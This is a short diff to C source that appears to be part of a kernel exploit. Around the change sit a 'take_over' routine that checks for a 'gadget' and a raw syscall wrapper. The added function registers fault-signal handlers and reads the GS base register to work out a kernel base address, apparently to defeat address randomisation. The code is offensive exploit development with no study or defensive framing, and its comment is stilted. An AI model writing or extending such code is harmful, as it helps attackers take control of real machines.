@@ -44,6 +44,15 @@ __attribute__((unused)) static void take_over(void) {
     if (!gadget) { puts("no gadget"); exit(2); }
 }
 
+/* For a kernel whose memory is closed, in which nothing can be looked for: where it lies, and who takes the faults. Its base. */
+__attribute__((unused)) static unsigned long look_around(void (*faulted)(int, siginfo_t *, void *)) {
+    struct sigaction action = {.sa_sigaction = faulted, .sa_flags = SA_SIGINFO | SA_NODEFER};
+    int signals[] = {SIGSEGV, SIGBUS, SIGILL, SIGTRAP, SIGFPE};
+    for (int i = 0; i < 5; i++) sigaction(signals[i], &action, NULL);
+    __asm__ volatile("rdgsbase %0" : "=r"(block));
+    return base = block & ~(GIB - 1);
+}
+
 __attribute__((unused)) static long host(long number, long a, long b, long c, long d, long e, long f) {
     long result;
     register long r10 __asm__("r10") = d, r8 __asm__("r8") = e, r9 __asm__("r9") = f;
